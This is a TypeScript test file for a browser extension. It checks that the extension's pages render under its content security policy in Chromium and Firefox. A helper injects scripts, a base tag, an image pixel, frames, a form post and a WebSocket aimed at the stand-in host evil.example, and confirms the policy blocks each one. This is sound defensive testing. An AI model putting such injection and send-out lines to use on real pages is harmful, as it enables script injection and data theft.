/**
 * The pages of the extension work under its content security policy, which lets nothing in from
 * outside and nothing out in other ways than the sending.
 */
import { describe, expect, it } from 'vitest';
import { CHROMIUM_ID } from '../browsers/tenant-address';
import { BLANK, complete, contoso, shareFrom } from './contoso';
import { contosoInFirefox } from './contoso-in-firefox';

const PAGES = [
  'src/popup/index.html',
  'src/options/index.html',
  'src/records/index.html',
  'src/records/index.html#view=overview',
  'src/welcome/index.html',
  'src/practice/index.html?scenario=salary-link',
  'src/practice/handout.html?scenario=salary-link',
];

/** Runs in a page of the extension. What of all this the policy has stopped, by its directives. */
async function attacks(): Promise<string[]> {
  const stopped: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.push(effectiveDirective));
  const added = (name: string, members: object) =>
    document.body.append(Object.assign(document.createElement(name), members));
  document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  added('script', { src: 'https://evil.example/script.js' });
  added('script', { textContent: 'document.title = "run"' });
  added('style', { textContent: 'body { display: none }' });
  added('img', { src: 'https://evil.example/pixel.png' });
  added('iframe', { src: 'https://evil.example/' });
  added('object', { data: 'https://evil.example/' });
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
  document.body.append(form);
  // Firefox throws as well.
  for (const send of [() => form.submit(), () => new WebSocket('wss://evil.example/')]) {
    try {
      send();
    } catch {}
  }
  const end = Date.now() + 5000;
  while (new Set(stopped).size < 8 && Date.now() < end) await new Promise(resolve => setTimeout(resolve, 20));
  return [...new Set(stopped)].sort();
}

const STOPPED = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'script-src-elem',
  'style-src-elem',
];

describe('content security policy in Chromium', () => {
  const world = contoso();

  it.each(PAGES)('is not violated by %s', async path => {
    await shareFrom(await world.open(BLANK), 1, 5);
    await world.waitForEntries(all => complete(all, 'activity', 'seen', 'outcome'));
    const page = await world.browser.context.newPage();
    const complaints: string[] = [];
    page.on('console', message => {
      if (message.text().includes('Content Security Policy')) complaints.push(message.text());
    });
    await page.goto(`chrome-extension://${CHROMIUM_ID}/${path}`);
    await page.locator('h1').first().waitFor();
    if (path.includes('practice/index')) await page.frameLocator('iframe').locator('#root > *').first().waitFor();
    if (path.includes('overview')) await page.locator('.uplot').first().waitFor();
    expect(complaints).toEqual([]);
    await page.close();
  });

  it('stops what an injected script loads, runs or sends', async () => {
    const page = await world.browser.openOwnPage('src/welcome/index.html');
    expect(await page.evaluate(attacks)).toEqual(STOPPED);
    expect(await page.title()).not.toBe('run');
    await page.close();
  });
});

describe('content security policy in Firefox', () => {
  const world = contosoInFirefox();

  it.each(PAGES)('lets %s render with its style', async path => {
    const tab = await world.firefox.openOwnPage(path);
    await tab.waitFor('h1');
    expect(
      await tab.evaluate(() => [...document.styleSheets].reduce((sum, { cssRules }) => sum + cssRules.length, 0)),
    ).toBeGreaterThan(10);
    await tab.close();
  });

  it('stops what an injected script loads, runs or sends', async () => {
    const tab = await world.firefox.openOwnPage('src/welcome/index.html');
    expect(await tab.evaluate(attacks)).toEqual(STOPPED);
    await tab.close();
  });
});
